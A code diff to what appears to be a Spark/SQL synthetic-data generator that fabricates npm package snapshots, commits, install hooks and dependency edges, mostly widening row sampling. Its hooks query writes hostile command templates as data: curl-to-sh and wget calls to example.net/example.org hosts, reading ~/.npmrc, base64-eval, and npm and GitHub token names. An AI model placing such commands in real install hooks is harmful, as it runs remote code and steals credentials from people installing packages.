@@ -78,8 +78,8 @@ def releases(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 _SNAPSHOTS = """
-SELECT DISTINCT cast(day(ts) AS int) - 1 AS idx, 'npm' AS ecosystem, concat('pkg', cast(user_id % 40 AS string)) AS name, event_type AS version
-FROM events WHERE event_id % 3 = 0"""
+SELECT DISTINCT cast(day(ts) AS int) - 1 AS idx, 'npm' AS ecosystem, concat('pkg', cast(user_id AS string)) AS name, event_type AS version
+FROM events"""
 SQL["snapshots"] = _SNAPSHOTS.replace("AS string", "AS VARCHAR")
 _COMMITS = """
 SELECT DISTINCT cast(day(ts) AS int) - 1 AS idx, concat('sha', cast(day(ts) AS string)) AS sha,
@@ -99,10 +99,10 @@ def commits(spark: SparkSession, sf_dir: str) -> DataFrame:
 _HOOKS = """
 SELECT conv_id, turn, CASE turn % 6 WHEN 0 THEN 'preinstall' WHEN 1 THEN 'test' WHEN 2 THEN 'postinstall' WHEN 3 THEN 'build' WHEN 4 THEN 'install' ELSE 'prepare' END AS hook,
   CASE (conv_id + turn) % 7
-    WHEN 0 THEN concat('curl https://h', cast(conv_id % 9 AS string), '.example.net/x.sh | sh ', left(text, 30))
-    WHEN 1 THEN concat('cat ~/.npmrc ', left(text, 60))
-    WHEN 2 THEN concat('echo x | base64 -d | eval ', left(text, 30))
-    WHEN 3 THEN concat('wget http://cdn', cast(conv_id % 5 AS string), '.example.org:8080/a ; $NPM_TOKEN GITHUB_TOKEN')
+    WHEN 0 THEN concat('curl https://h', cast(conv_id % 9 AS string), '.example.net/x.sh | sh ', text)
+    WHEN 1 THEN concat('cat ~/.npmrc ', text)
+    WHEN 2 THEN concat('echo x | base64 -d | eval ', text)
+    WHEN 3 THEN concat('wget http://cdn', cast(conv_id % 5 AS string), '.example.org:8080/a ; $NPM_TOKEN GITHUB_TOKEN ', text)
     ELSE text END AS body
 FROM conversations"""
 SQL["hooks"] = _HOOKS.replace("AS string", "AS VARCHAR")
@@ -114,8 +114,8 @@ def hooks(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 _EDGES = """
-SELECT DISTINCT 'npm' AS ecosystem, concat('p', cast(l_partkey % 600 AS string)) AS parent, concat('p', cast(l_suppkey % 600 AS string)) AS child
-FROM lineitem WHERE l_orderkey % 23 = 0 AND l_partkey % 600 <> l_suppkey % 600"""
+SELECT DISTINCT 'npm' AS ecosystem, concat('p', cast(l_partkey AS string)) AS parent, concat('p', cast(l_suppkey AS string)) AS child
+FROM lineitem WHERE l_partkey <> l_suppkey"""
 SQL["edges"] = _EDGES.replace("AS string", "AS VARCHAR")
 
 
